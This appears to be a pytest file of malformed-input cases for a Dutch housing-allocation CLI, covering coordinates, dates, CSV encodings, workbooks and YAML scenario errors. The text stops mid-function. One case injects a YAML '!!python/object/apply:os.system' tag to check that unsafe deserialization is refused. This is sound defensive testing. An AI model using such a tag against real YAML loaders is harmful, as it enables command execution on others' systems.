"""Round nine of the held-back bad-input corpus of issue 11, each case through the CLI on a
copy of the demo, in the default language (Dutch): exit 2, one message naming the file, the
id or row and the field, no traceback and nothing written.

New here (not in ``test_corpus``, ``test_corpus_more`` or ``test_corpus_tables``):
geography in every layer and table (a CRS mislabelled on points of interest, constraint and
boundary layers, swapped x/y in RD, empty and NaN geometries, a multi-part site with one
part far away, a site with x and no y), dates (Dutch month names in the unit stock and the
planning, ISO dates with a time zone, an Excel date number from a number field, declared
formats that do not fit), CSV and workbook files as municipalities produce them (Excel's
'Unicode text', UTF-16 without a byte-order mark, a zero byte, a title line above the
header, a declared separator or encoding the file does not have, a workbook with hidden or
several sheets), scenario files (duplicate keys at every depth, aliases, YAML's yes/no read
as a number, a municipality listed twice), references between every table and the scenario,
exact numbers (counts of twenty digits, a yes/no column holding 2, many-digit decimals) and
formula injection in every text field that reaches a spreadsheet.

Inputs that are legitimately fine (Z and M coordinates, other declared CRSs, Excel's ``sep=``
line, CR line endings, a declared Dutch export, a typed workbook, a time zone) are read to
the same values as the clean demo.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
from shapely.geometry import MultiPolygon, Point, Polygon, box
from typer.testing import CliRunner

from opvang_opt.cli import app
from opvang_opt.exact import floor_times
from tests.inputs.demo_edit import DEMO, ROOT, refused
from tests.inputs.demo_edit import edit_scenario as _scenario
from tests.inputs.demo_edit import edit_table as _edit


def _refused(demo: Path, expected: list[str]) -> str:
    """Refused in the default language (Dutch): see :func:`refused`."""
    return refused(demo, expected, lang=None)


def _layer(demo: Path, file: str, layer: str) -> gpd.GeoDataFrame:
    return gpd.read_file(demo / DEMO / file, layer=layer)


def _write(demo: Path, gdf: gpd.GeoDataFrame, file: str, layer: str, **kw: object) -> None:
    pyogrio.write_dataframe(gdf, demo / DEMO / file, layer=layer, driver="GPKG", **kw)


def _cell(demo: Path, file: str, row: int, columns: str | list[str], value: object) -> None:
    def f(df: pd.DataFrame) -> None:
        df.loc[row, columns] = value

    _edit(demo, file, f)


def _swap_xy(demo: Path, file: str, row: int) -> None:
    def f(df: pd.DataFrame) -> None:
        df.loc[row, ["x", "y"]] = [df.loc[row, "y"], df.loc[row, "x"]]

    _edit(demo, file, f)


def _text(demo: Path, file: str) -> str:
    return (demo / DEMO / file).read_text(encoding="utf-8")


ALLOC_DECLARE = "    pois_layer: pois "
"""The line of ``allocation.inputs`` before which a case declares CSV options."""


def _declare_alloc(demo: Path, *lines: str) -> None:
    _scenario(demo, ALLOC_DECLARE, "".join(f"    {ln}\n" for ln in lines) + ALLOC_DECLARE)


# --------------------------------------------------------------------------- geography


def case_pois_in_degrees_labelled_rd(demo):
    gdf = _layer(demo, "pois.gpkg", "pois").to_crs(4326).set_crs(28992, allow_override=True)
    _write(demo, gdf, "pois.gpkg", "pois")
    return ["pois.gpkg, laag 'pois', crs", "graden lengte/breedte", "P0001", "EPSG:4326"]


def case_poi_east_of_the_border_in_rd(demo):
    gdf = _layer(demo, "pois.gpkg", "pois")
    gdf.loc[3, "geometry"] = Point(330_000, 480_000)  # RD numbers in Germany
    _write(demo, gdf, "pois.gpkg", "pois")
    return ["pois.gpkg, laag 'pois', crs", "buiten het gebied waar EPSG:28992 geldig is", "P0004"]


def case_poi_empty_point(demo):
    gdf = _layer(demo, "pois.gpkg", "pois")
    gdf.loc[5, "geometry"] = Point()
    _write(demo, gdf, "pois.gpkg", "pois")
    return ["pois.gpkg, id P0006 (rij 6), geometry: lege geometrie"]


def case_poi_nan_point(demo):
    gdf = _layer(demo, "pois.gpkg", "pois")
    gdf.loc[5, "geometry"] = Point(float("nan"), float("nan"))
    _write(demo, gdf, "pois.gpkg", "pois")
    return ["pois.gpkg, id P0006 (rij 6), geometry"]


def case_longlist_multipart_with_a_part_far_away(demo):
    # 100 m2 of S003 digitised 96 km off: the site touches the region and its share
    # outside is tiny, so it was scored and could be shortlisted
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    first = gdf.geometry.iloc[2]
    gdf["geometry"] = [MultiPolygon([g]) for g in gdf.geometry]
    gdf.loc[2, "geometry"] = MultiPolygon([first, box(200_000, 550_000, 200_010, 550_010)])
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return [
        "longlist.gpkg, id S003, geometry",
        "een deel van de locatie (een multipolygoon) ligt 96 km buiten de regio",
        "region.outside: warn",
        "De invoer heeft 1 probleem",
    ]


def case_longlist_multipart_with_a_part_in_germany(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    first = gdf.geometry.iloc[2]
    gdf["geometry"] = [MultiPolygon([g]) for g in gdf.geometry]
    gdf.loc[2, "geometry"] = MultiPolygon([first, box(330_000, 480_000, 330_010, 480_010)])
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return ["longlist.gpkg, laag 'longlist', crs", "EPSG:28992 geldig is", "S003"]


def case_longlist_empty_polygon(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    gdf.loc[4, "geometry"] = Polygon()
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return ["longlist.gpkg, id S005 (rij 5), geometry: lege geometrie"]


def case_longlist_rd_labelled_web_mercator(demo):
    _write(
        demo,
        _layer(demo, "longlist.gpkg", "longlist").set_crs(3857, allow_override=True),
        "longlist.gpkg",
        "longlist",
    )
    return ["longlist.gpkg, geometry", "buiten Nederland", "EPSG:3857", "S001"]


def case_longlist_rd_labelled_etrs89(demo):
    _write(
        demo,
        _layer(demo, "longlist.gpkg", "longlist").set_crs(4258, allow_override=True),
        "longlist.gpkg",
        "longlist",
    )
    return ["longlist.gpkg, laag 'longlist', crs", "EPSG:4258", "EPSG:28992 (RD New)"]


def case_longlist_one_site_with_x_and_y_swapped(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    gdf.loc[3, "geometry"] = shapely.transform(gdf.geometry.iloc[3], lambda c: c[:, ::-1])
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return ["longlist.gpkg, laag 'longlist', crs", "S004", "x en y lijken verwisseld"]


def case_longlist_geojson_declaring_rd_in_degrees(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist").to_crs(4326)
    path = demo / DEMO / "ll.geojson"
    gdf.to_file(path, driver="GeoJSON")
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["crs"] = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::28992"}}
    path.write_text(json.dumps(doc), encoding="utf-8")
    _scenario(
        demo,
        "{path: ../data/demo/longlist.gpkg, layer: longlist, id_column: site_id}",
        "{path: ../data/demo/ll.geojson, id_column: site_id}",
    )
    return ["ll.geojson, crs", "graden lengte/breedte", "EPSG:28992", "S001"]


def case_nature_with_x_and_y_swapped(demo):
    gdf = _layer(demo, "constraints.gpkg", "nature")
    gdf["geometry"] = shapely.transform(gdf.geometry.to_numpy(), lambda c: c[:, ::-1])
    _write(demo, gdf, "constraints.gpkg", "nature")
    return ["constraints.gpkg, laag 'nature', crs", "rij 1, rij 2, rij 3", "verwisseld"]


def case_nature_area_empty(demo):
    gdf = _layer(demo, "constraints.gpkg", "nature")
    gdf.loc[1, "geometry"] = Polygon()
    _write(demo, gdf, "constraints.gpkg", "nature")
    return ["constraints.gpkg, rij 2, geometry: lege geometrie"]


def case_power_line_in_degrees_labelled_rd(demo):
    gdf = _layer(demo, "constraints.gpkg", "hv_line").to_crs(4326)
    _write(demo, gdf.set_crs(28992, allow_override=True), "constraints.gpkg", "hv_line")
    return ["constraints.gpkg, laag 'hv_line', crs", "graden lengte/breedte", "rij 1, rij 2"]


def case_noise_contour_vertex_nan(demo):
    gdf = _layer(demo, "constraints.gpkg", "noise_contour")
    ring = list(gdf.geometry.iloc[0].exterior.coords)
    ring[1] = (float("nan"), ring[1][1])
    gdf.loc[0, "geometry"] = Polygon(ring)
    _write(demo, gdf, "constraints.gpkg", "noise_contour")
    return ["constraints.gpkg, rij 1, geometry: coördinaat is NaN", "geen reparatie"]


def case_municipal_boundary_empty(demo):
    gdf = _layer(demo, "boundaries.gpkg", "gemeenten")
    gdf.loc[1, "geometry"] = Polygon()
    _write(demo, gdf, "boundaries.gpkg", "gemeenten")
    return ["boundaries.gpkg, id GM0437 (rij 2), geometry: lege geometrie"]


def case_wijken_with_x_and_y_swapped(demo):
    gdf = _layer(demo, "boundaries.gpkg", "wijken")
    gdf["geometry"] = shapely.transform(gdf.geometry.to_numpy(), lambda c: c[:, ::-1])
    _write(demo, gdf, "boundaries.gpkg", "wijken")
    return ["boundaries.gpkg, laag 'wijken', crs", "WK038401", "verwisseld"]


def case_household_work_in_degrees(demo):
    _cell(demo, "households.csv", 5, ["work_x", "work_y"], ["4.96", "52.34"])
    return ["households.csv, work_x/work_y", "graden lengte/breedte", "H0006"]


def case_household_work_in_zeeland(demo):
    _cell(demo, "households.csv", 5, ["work_x", "work_y"], ["80000", "380000"])
    return ["households.csv, work_x/work_y", "meer dan 50 km van de regio: H0006 (94 km)"]


def case_unit_site_with_x_and_y_swapped(demo):
    _swap_xy(demo, "unit_sites.csv", 1)
    return ["unit_sites.csv, x/y: coördinaten liggen buiten Nederland in RD New", "F02"]


def case_unit_site_in_degrees(demo):
    _cell(demo, "unit_sites.csv", 1, ["x", "y"], ["4.97", "52.33"])
    return ["unit_sites.csv, x/y: coördinaten lijken graden lengte/breedte", "F02"]


def case_planning_stock_with_x_and_y_swapped(demo):
    _swap_xy(demo, "planning_stock.csv", 0)
    return ["planning_stock.csv, x/y: coördinaten liggen buiten Nederland", "B01"]


def case_planning_stock_in_groningen(demo):
    _cell(demo, "planning_stock.csv", 0, ["x", "y"], ["233000", "581000"])
    return ["planning_stock.csv, x/y: coördinaten liggen meer dan 50 km van de regio: B01"]


def case_planning_candidate_with_x_and_no_y(demo):
    # was accepted: the site fell out of the region check and off the map without a word
    _cell(demo, "planning_candidates.csv", 0, "y", "")
    return ["planning_candidates.csv, rij 2 (F01), y: x en y moeten allebei ingevuld"]


def case_planning_stock_with_y_and_no_x(demo):
    _cell(demo, "planning_stock.csv", 0, "x", "")
    return ["planning_stock.csv, rij 2 (B01), x: x en y moeten allebei ingevuld"]


def case_provider_with_x_and_y_swapped(demo):
    _swap_xy(demo, "providers.csv", 2)
    return ["providers.csv, x/y: coördinaten liggen buiten Nederland", "TK-P0080"]


def case_provider_minus_infinity(demo):
    _cell(demo, "providers.csv", 3, "y", "-inf")
    return ["providers.csv, id ISK-P0088, y: '-inf' is geen getal"]


def case_facility_in_degrees(demo):
    _cell(demo, "facilities.csv", 1, ["x", "y"], ["4.97", "52.33"])
    return ["facilities.csv, x/y: coördinaten lijken graden lengte/breedte", "TV-2"]


def case_facility_far_away(demo):
    _cell(demo, "facilities.csv", 1, ["x", "y"], ["20000", "380000"])
    return ["facilities.csv, x/y: coördinaten liggen meer dan 50 km van de regio: TV-2"]


# --------------------------------------------------------------------------- dates


def case_unit_date_with_a_dutch_month_name(demo):
    _cell(demo, "units.csv", 2, "available_from", "1 juni 2026")
    return ["units.csv, woning U0003, available_from: geen datum", "(gevonden: '1 juni 2026')"]


def case_planning_permit_end_with_a_dutch_month_name(demo):
    _cell(demo, "planning_stock.csv", 0, "permit_end", "31 december 2026")
    return ["planning_stock.csv, rij 2 (B01), permit_end: '31 december 2026': geen datum"]


def case_longlist_date_as_excel_number_field(demo):
    # a real number field (46183.0): the hint that it is Excel's number for a date
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    days = pd.to_datetime(gdf["available_from"]) - pd.Timestamp("1899-12-30")
    gdf["available_from"] = days.dt.days.astype(float)
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return [
        "longlist.gpkg, id S001 (rij 1), available_from: een getal, geen datum",
        "het getal dat Excel gebruikt voor 2026-06-10",
        "De invoer heeft 44 problemen",
    ]


def case_longlist_date_as_an_integer_yyyymmdd(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    dates = pd.to_datetime(gdf["available_from"])
    gdf["available_from"] = dates.dt.strftime("%Y%m%d").astype(int)
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return ["longlist.gpkg, id S001 (rij 1), available_from: geen datum", "'20260610'"]


def case_planning_candidate_on_29_february_of_a_common_year(demo):
    _cell(demo, "planning_candidates.csv", 0, "available_from", "29-02-2027")
    return [
        "planning_candidates.csv, rij 2 (F01), available_from: '29-02-2027'",
        "onmogelijke datum",
    ]


def case_household_iso_date_30_february(demo):
    _cell(demo, "households.csv", 4, "arrival_date", "2026-02-30")
    return [
        "households.csv, huishouden H0005, arrival_date: onmogelijke datum",
        "gelezen als jaar-maand-dag",
    ]


def case_unit_dates_month_13_and_zeros(demo):
    _cell(demo, "units.csv", 4, "available_from", "2026-13-01")
    _cell(demo, "units.csv", 5, "available_from", "0000-00-00")
    return [
        "units.csv, woning U0005, available_from: onmogelijke datum (de maand moet 1 tot en met 12",
        "units.csv, woning U0006, available_from: onmogelijke datum",
        "De invoer heeft 2 problemen",
    ]


def case_planning_permit_end_two_digit_year_with_slashes(demo):
    _cell(demo, "planning_stock.csv", 0, "permit_end", "31/12/26")
    return ["planning_stock.csv, rij 2 (B01), permit_end: '31/12/26'", "twee cijfers"]


def case_unit_date_year_only(demo):
    _cell(demo, "units.csv", 4, "available_from", "2026")
    return ["units.csv, woning U0005, available_from: geen datum", "(gevonden: '2026')"]


def case_declared_date_format_for_a_column_that_is_no_date(demo):
    _declare_alloc(demo, "date_formats: {persons: '%d-%m-%Y'}")
    return ["demo.yaml, allocation.inputs.date_formats: geen datumkolom 'persons'"]


def case_declared_date_format_without_a_day(demo):
    _declare_alloc(demo, "date_formats: {available_from: '%Q-%m-%Y'}")
    return ["demo.yaml, allocation.inputs.date_formats.available_from: '%Q-%m-%Y'"]


def case_declared_date_format_for_a_missing_planning_column(demo):
    _scenario(
        demo,
        "  stock: {path: ../data/demo/planning_stock.csv}",
        "  stock: {path: ../data/demo/planning_stock.csv, date_formats: {permit_eind: '%m/%d/%Y'}}",
    )
    return ["planning_stock.csv, permit_eind: date_formats geeft een datumnotatie voor kolom"]


def case_declared_dutch_format_on_iso_dates(demo):
    _declare_alloc(demo, "date_formats: {arrival_date: '%d-%m-%Y'}")
    return [
        "households.csv, id H0001 (rij 1), arrival_date: past niet bij de opgegeven notatie "
        "'%d-%m-%Y' (ingevuld: '2026-01-16')"
    ]


def case_declared_format_with_english_month_names_on_dutch_ones(demo):
    _edit(demo, "units.csv", lambda df: df.__setitem__("available_from", "1 maart 2026"))
    _declare_alloc(demo, "date_formats: {available_from: '%d %B %Y'}")
    return ["units.csv, id U0001 (rij 1), available_from: past niet bij de opgegeven notatie"]


def case_scenario_planning_start_29_february_2026(demo):
    _scenario(demo, "  start: 2026-01-01\n  periods: 20", "  start: 2026-02-29\n  periods: 20")
    return ["demo.yaml, planning.start: geen geldige datum", "(ingevuld: '2026-02-29')"]


def case_scenario_services_start_day_first(demo):
    _scenario(
        demo, "periods: {start: 2026-01-01, periods: 8", "periods: {start: 01-01-2026, periods: 8"
    )
    return ["demo.yaml, services.periods.start: geen geldige datum", "'01-01-2026'"]


def case_scenario_date_with_a_time_zone(demo):
    _scenario(demo, "      date: 2028-06-30", "      date: 2028-06-30T23:00:00+02:00")
    return ["demo.yaml, siting.exclusions[4].date: geen geldige datum"]


def case_scenario_date_with_a_time(demo):
    _scenario(demo, "      date: 2028-06-30", "      date: 2028-06-30 14:00")
    return ["demo.yaml, siting.exclusions[4].date: geen geldige datum", "'2028-06-30 14:00'"]


# --------------------------------------------------------------------------- CSV files


def _utf16_tab_households(demo: Path) -> None:
    """households.csv as Excel's 'Unicode text': UTF-16 with a byte-order mark, tabs, CRLF."""
    text = _text(demo, "households.csv").replace(",", "\t").replace("\n", "\r\n")
    (demo / DEMO / "households.csv").write_bytes(text.encode("utf-16"))


def case_excel_unicode_text_declared_utf16_without_tab(demo):
    _utf16_tab_households(demo)
    _declare_alloc(demo, "encoding: utf-16")
    return [
        "households.csv, regel 1: de kopregel is gescheiden door tabs",
        "geef `separator: \"\\t\"` op onder 'households'",
        # the declaration holds for the three allocation tables: the UTF-8 ones are named
        "units.csv, regel 1: 'units' geeft `encoding: utf-16` op, maar het bestand is geen "
        "UTF-16-tekst",
        "unit_sites.csv, regel 1",
    ]


def case_utf16_without_byte_order_mark(demo):
    # valid UTF-8 full of zero bytes: it was 'this row has 1 field where the header has 10'
    path = demo / DEMO / "planning_stock.csv"
    path.write_bytes(_text(demo, "planning_stock.csv").encode("utf-16-le"))
    return [
        "planning_stock.csv, regel 1: het bestand bevat nul-bytes om en om",
        "`encoding: utf-16-le`",
    ]


def case_zero_byte_in_a_csv(demo):
    # 'F\x0002' was read as another id: every unit of F02 had an 'unknown site'
    path = demo / DEMO / "unit_sites.csv"
    path.write_bytes(path.read_bytes().replace(b"F02", b"F\x0002"))
    return ["unit_sites.csv, regel 3: deze regel bevat een nul-byte", "De invoer heeft 1 probleem"]


def case_declared_semicolon_for_comma_files(demo):
    _declare_alloc(demo, 'separator: ";"')
    return [
        "households.csv, regel 1: 'households' geeft `separator: ';'` op, maar de kopregel "
        "bevat geen ';' en wel ','",
        "units.csv, regel 1",
        "unit_sites.csv, regel 1",
        "De invoer heeft 3 problemen",
    ]


def case_title_line_above_the_header(demo):
    path = demo / DEMO / "units.csv"
    path.write_text("Woningvoorraad per 1-1-2026,,,,,,,,\n" + _text(demo, "units.csv"))
    return [
        "units.csv, regel 1: de eerste regel lijkt een titel boven de tabel",
        "('Woningvoorraad per 1-1-2026')",
    ]


def case_semicolon_title_line_above_a_comma_header(demo):
    # was 'looks like a Dutch Excel export: declare separator ";"', which made it worse
    path = demo / DEMO / "planning_tasks.csv"
    path.write_text("Taakstelling 2026;;;\n" + _text(demo, "planning_tasks.csv"))
    return ["planning_tasks.csv, regel 1: de eerste regel lijkt een titel", "('Taakstelling 2026')"]


def case_utf8_file_declared_windows_1252(demo):
    # 'Diëmerdreef' became 'DiÃ«merdreef' in every output, silently
    path = demo / DEMO / "unit_sites.csv"
    path.write_text(_text(demo, "unit_sites.csv").replace("Diemerdreef", "Diëmerdreef"))
    _declare_alloc(demo, "encoding: cp1252")
    return [
        "unit_sites.csv, regel 2: het bestand is UTF-8-tekst (met letters als ë)",
        "`encoding: cp1252`",
    ]


def case_workbook_given_as_a_planning_csv(demo):
    df = pd.read_csv(demo / DEMO / "planning_stock.csv", dtype=str)
    df.to_excel(demo / DEMO / "planning_stock.xlsx", index=False)
    _scenario(
        demo,
        "  stock: {path: ../data/demo/planning_stock.csv}",
        "  stock: {path: ../data/demo/planning_stock.xlsx}",
    )
    return ["planning_stock.xlsx, regel 1: dit is een Excel-werkmap (.xlsx)", "'CSV UTF-8'"]


def case_windows_1252_planning_candidates_undeclared(demo):
    path = demo / DEMO / "planning_candidates.csv"
    path.write_bytes(
        _text(demo, "planning_candidates.csv")
        .replace("Diemerdreef", "Diemerdréef")
        .encode("cp1252")
    )
    return [
        "planning_candidates.csv, regel 2",
        "Windows-1252",
        "`encoding: cp1252`",
        "'planning.candidates'",
    ]


def case_sep_line_against_a_declared_separator(demo):
    path = demo / DEMO / "unit_sites.csv"
    path.write_text("sep=;\n" + _text(demo, "unit_sites.csv").replace(",", ";"))
    _declare_alloc(demo, 'separator: ","')
    return ["unit_sites.csv, regel 1: de eerste regel 'sep=;' geeft het scheidingsteken op"]


def case_numbers_with_a_leading_apostrophe(demo):
    _cell(demo, "units.csv", 0, "beds", "'2")
    return ['units.csv, woning U0001, beds: geen geheel getal: "\'2"']


def case_header_in_capitals(demo):
    path = demo / DEMO / "units.csv"
    path.write_text(_text(demo, "units.csv").replace("unit_id,site_id", "Unit_ID,site_id", 1))
    return ["units.csv, unit_id: verplichte kolom ontbreekt", "Unit_ID"]


# --------------------------------------------------------------------------- workbooks


def _workbook(
    demo: Path,
    table: str,
    *,
    hidden_first: bool = False,
    extra_sheet: bool = False,
    title: bool = False,
    serial_dates: bool = False,
    text_numbers: bool = False,
) -> Path:
    """``table`` (a demo CSV) as an .xlsx as Excel saves it: numbers as numbers, dates as
    date cells (or their numbers), optionally a hidden sheet first, a second sheet, or a
    merged title row above the header; ``text_numbers`` keeps the numbers as text cells
    (Excel's 'number stored as text')."""
    df = pd.read_csv(demo / DEMO / table, dtype=str, keep_default_na=False)
    wb = openpyxl.Workbook()
    ws = wb.active
    if hidden_first:
        ws.title = "Oud"
        ws.append(list(df.columns))
        ws.sheet_state = "hidden"
        ws = wb.create_sheet("Data")
    else:
        ws.title = "Data"
    if title:
        ws.append(["Tabel per 1 januari 2026"])
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(df.columns))
    ws.append(list(df.columns))
    for rec in df.itertuples(index=False):
        row: list[object] = []
        for col, v in zip(df.columns, rec, strict=True):
            if col in ("arrival_date", "available_from", "permit_end") and v:
                day = dt.date.fromisoformat(v)
                row.append((day - dt.date(1899, 12, 30)).days if serial_dates else day)
            elif v and not text_numbers and v.replace(".", "", 1).lstrip("-").isdigit():
                row.append(float(v) if "." in v else int(v))
            else:
                row.append(v or None)
        ws.append(row)
    for column in ws.iter_cols():
        for cell in column:
            if isinstance(cell.value, dt.date):
                cell.number_format = "dd-mm-yyyy"
    if extra_sheet:
        wb.create_sheet("Toelichting").append(["Bron", "fictief"])
    path = demo / DEMO / table.replace(".csv", ".xlsx")
    wb.save(path)
    return path


def _households_workbook(demo: Path, **kw: bool) -> None:
    _workbook(demo, "households.csv", **kw)
    _scenario(
        demo, "households: ../data/demo/households.csv", "households: ../data/demo/households.xlsx"
    )


def case_workbook_with_a_hidden_first_sheet(demo):
    # GDAL read the hidden sheet 'Oud' (last year's table) silently
    _households_workbook(demo, hidden_first=True)
    return [
        "households.xlsx, tabel 'households', layer: de werkmap heeft meerdere bladen "
        "(Data) en ook verborgen bladen (Oud)"
    ]


def case_workbook_with_a_second_sheet(demo):
    _households_workbook(demo, extra_sheet=True)
    return [
        "households.xlsx, tabel 'households', layer: de werkmap heeft meerdere bladen "
        "(Data, Toelichting)"
    ]


def case_workbook_with_a_merged_title_row(demo):
    # the columns were GDAL's Field1 .. Field18, and every required column 'missing'
    _households_workbook(demo, title=True)
    return [
        "households.xlsx, regel 1: de eerste rij van het blad is geen kopregel",
        "De invoer heeft 1 probleem",
    ]


def case_workbook_with_dates_as_numbers(demo):
    _households_workbook(demo, serial_dates=True)
    return [
        "households.xlsx, huishouden H0001, arrival_date: een getal, geen datum",
        "het getal dat Excel gebruikt voor 2026-01-16",
    ]


def case_provider_workbook_with_a_hidden_first_sheet(demo):
    _workbook(demo, "providers.csv", hidden_first=True)
    _scenario(
        demo,
        "providers: {path: ../data/demo/providers.csv}",
        "providers: {path: ../data/demo/providers.xlsx}",
    )
    return ["providers.xlsx, tabel 'providers', layer", "verborgen bladen (Oud)"]


def case_longlist_workbook_with_x_and_y_columns(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    df = pd.DataFrame(gdf.drop(columns="geometry"))
    df["x"], df["y"] = gdf.geometry.centroid.x, gdf.geometry.centroid.y
    df.to_csv(demo / DEMO / "ll.csv", index=False)
    _workbook(demo, "ll.csv")
    _scenario(
        demo,
        "{path: ../data/demo/longlist.gpkg, layer: longlist, id_column: site_id}",
        "{path: ../data/demo/ll.xlsx, x_column: x, y_column: y, crs: 'EPSG:28992', "
        "id_column: site_id}",
    )
    return [
        "ll.xlsx, x_column: x_column/y_column en wkt_column worden alleen uit CSV-bestanden gelezen"
    ]


# --------------------------------------------------------------------------- scenario


def case_yaml_key_twice_in_a_flow_mapping_of_a_list_item(demo):
    _scenario(
        demo,
        "upper: 3000, direction: lower_is_better}",
        "upper: 3000, upper: 300, direction: lower_is_better}",
    )
    return ["demo.yaml, regel 42, siting.criteria[0].value.upper: twee keer geschreven"]


def case_yaml_key_twice_in_a_block_list_item(demo):
    _scenario(demo, "    - name: ov_halte\n", "    - name: ov_halte\n      weight: 3\n")
    return [
        "demo.yaml, regel 48, siting.criteria[1].weight: twee keer geschreven (eerst op "
        "regel 44, opnieuw op regel 48)"
    ]


def case_yaml_municipality_twice_in_the_tasks(demo):
    _scenario(
        demo,
        "    GM0437: {asielzoekers: 90,",
        "    GM0384: {asielzoekers: 1}\n    GM0437: {asielzoekers: 90,",
    )
    return ["demo.yaml, regel 215, exchange.tasks.GM0384: twee keer geschreven"]


def case_yaml_section_twice(demo):
    _scenario(demo, "outputs:\n  lang: nl", "outputs:\n  lang: en\noutputs:\n  lang: nl")
    return ["demo.yaml, regel 307, outputs: twee keer geschreven (eerst op regel 305"]


def case_yaml_key_twice_after_a_merge(demo):
    _scenario(
        demo,
        "  solver: {backend: highs, time_limit_s: 20}",
        "  solver: {<<: {backend: highs}, time_limit_s: 20, time_limit_s: 5}",
    )
    return ["demo.yaml, regel 303, planning.solver.time_limit_s: twee keer geschreven"]


def case_yaml_key_twice_in_cost_steps(demo):
    _scenario(
        demo,
        "        - {up_to: 100, cost_per_place: 22300}",
        "        - {up_to: 100, cost_per_place: 22300, up_to: 50}",
    )
    return ["exchange.housing_types[0].cost_steps[0].up_to: twee keer geschreven"]


def case_yaml_undefined_alias(demo):
    _scenario(demo, "  periods: 20 ", "  periods: *twintig ")
    return ["demo.yaml, regel 290, kolom 12", "undefined alias 'twintig'"]


def case_yaml_python_tag(demo):
    _scenario(demo, "  periods: 20 ", "  periods: !!python/object/apply:os.system ['echo'] ")
    return ["demo.yaml, regel 290, kolom 12", "python/object/apply:os.system"]


def case_yaml_tab_indentation_deep_in_the_file(demo):
    _scenario(demo, "    max_sites: 6", "\t\tmax_sites: 6")
    return ["demo.yaml, regel 138, kolom 1", "niet met tabs"]


def case_yaml_yes_for_a_number_of_sites(demo):
    # `max_sites: true` (or yes, on) was read as 1: a shortlist of one site
    _scenario(demo, "    max_sites: 6", "    max_sites: true")
    return [
        "demo.yaml, siting.shortlist.max_sites: moet een geheel getal zijn",
        "(ingevuld: 'true')",
    ]


def case_yaml_no_for_a_share(demo):
    _scenario(demo, "  discount_rate: 0.0225", "  discount_rate: no")
    return ["demo.yaml, planning.discount_rate: moet een getal zijn", "(ingevuld: 'false')"]


def case_yaml_decimal_comma(demo):
    _scenario(demo, "    persons_per_unit: 2.8", "    persons_per_unit: 2,8")
    return ["demo.yaml, siting.capacity.persons_per_unit", "schrijf 2.8"]


def case_yaml_text_for_a_list(demo):
    _scenario(
        demo, "      groups: [asielzoekers, ontheemden]", "      groups: asielzoekers, ontheemden"
    )
    return ["demo.yaml, exchange.housing_types[0].groups: moet een lijst zijn"]


def case_yaml_null_for_a_required_number(demo):
    _scenario(demo, "  periods: 20 ", "  periods: ~ ")
    return ["demo.yaml, planning.periods: moet een geheel getal zijn"]


def case_yaml_unknown_keys_at_three_depths(demo):
    _scenario(
        demo,
        "  solver: {time_limit_s: 30, relative_gap",
        "  solver: {time_limt_s: 30, relative_gap",
    )
    _scenario(demo, "    default: {min_keep_share: 0.5,", "    default: {min_keep_shre: 0.5,")
    _scenario(
        demo,
        "{name: asielzoekers, places_per_unit: 3, cycle_periods: 4}",
        "{name: asielzoekers, places_per_unt: 3, cycle_periods: 4}",
    )
    return [
        "allocation.solver.time_limt_s: onbekende sleutel 'time_limt_s' (bedoelde u "
        "'time_limit_s'?)",
        "exchange.bounds.default.min_keep_shre",
        "planning.groups[0].places_per_unt",
        "(bedoelde u 'places_per_unit'?)",
        "3 problemen",
    ]


def case_yaml_code_without_gm(demo):
    _scenario(demo, "    - {code: GM0384, name: Diemen}\n", "    - {code: 0384, name: Diemen}\n")
    return ["demo.yaml, region.municipalities[0].code", "'^GM\\d{4}$'", "'0384'"]


def case_yaml_top_level_list(demo):
    (demo / "scenarios" / "demo.yaml").write_text("- name: demo\n", encoding="utf-8")
    return ["demo.yaml: het hoofdniveau is een list"]


# --------------------------------------------------------------------------- references


def case_region_municipality_listed_twice(demo):
    # was accepted: the region's municipality counted twice
    _scenario(
        demo,
        "    - {code: GM0451, name: Uithoorn}\n  boundaries",
        "    - {code: GM0451, name: Uithoorn}\n    - {code: GM0384, name: Diemen}\n  boundaries",
    )
    return ["demo.yaml, region.municipalities[3].code: gemeente 'GM0384' komt 2 keer voor"]


def case_exchange_references_unknown_type_municipality_and_groups(demo):
    _scenario(
        demo,
        "{municipality: GM0437, type: sociale_huur, places: 15}",
        "{municipality: GM0437, type: sociale_hur, places: 15}",
    )
    _scenario(
        demo,
        "{from_group: ontheemden, to_group: asielzoekers, rate: 1.0, max_share: 0.3}",
        "{from_group: ontheemde, to_group: asielzoekers, rate: 1.0, max_share: 0.3}",
    )
    _scenario(
        demo,
        "{municipality: GM0384, group: asielzoekers, min_keep_share: 0.6}",
        "{municipality: GM0385, group: asielzoeker, min_keep_share: 0.6}",
    )
    _scenario(
        demo,
        "      group: ontheemden\n      amount: 61",
        "      group: oekrainers\n      amount: 61",
    )
    return [
        "exchange.capacity[5].type: woonvorm 'sociale_hur' is niet gedefinieerd",
        "exchange.substitution[0].from_group: groep 'ontheemde'",
        "exchange.bounds.overrides[0].municipality: onbekende gemeentecode 'GM0385'",
        "exchange.bounds.overrides[0].group: groep 'asielzoeker'",
        "exchange.reference_prices[1].group: groep 'oekrainers'",
    ]


def case_exchange_task_of_an_unknown_municipality_and_group(demo):
    _scenario(demo, "    GM0451: {asielzoekers: 190,", "    GM0452: {asielzoeker: 190,")
    return ["exchange.tasks.GM0452: onbekende gemeentecode 'GM0452'"]


def case_allocation_rules_with_unknown_groups(demo):
    _scenario(
        demo, "groups: [statushouders], max_share: 0.5}", "groups: [statushouder], max_share: 0.5}"
    )
    _scenario(
        demo,
